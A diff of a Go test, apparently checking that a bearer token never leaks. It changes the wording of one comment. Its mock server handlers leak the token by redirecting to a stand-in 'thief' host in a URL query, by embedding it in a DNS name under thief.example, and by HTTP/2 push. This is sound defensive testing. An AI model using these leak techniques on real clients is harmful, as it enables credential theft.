@@ -38,7 +38,7 @@ func TestSecretsAreNowhere(t *testing.T) {
 			_, _ = fmt.Fprintf(w, `{"access_token":%q,"token_type":"Bearer","expires_in":3600}`, access)
 		case "/redirect":
 			http.Redirect(w, r, thief.url()+"/?t="+strings.TrimPrefix(got, "Bearer "), http.StatusTemporaryRedirect)
-		case "/named": // a name that is asked for is seen by whoever resolves it
+		case "/named": // a resolver sees each name that is asked for
 			http.Redirect(w, r, "https://"+strings.TrimPrefix(got, "Bearer ")+".thief.example/", http.StatusFound)
 		case "/pushed": // a response that nobody has asked for
 			pushed = w.(http.Pusher).Push("/stolen?"+got, nil) //nolint:forcetypeassert // it is HTTP/2
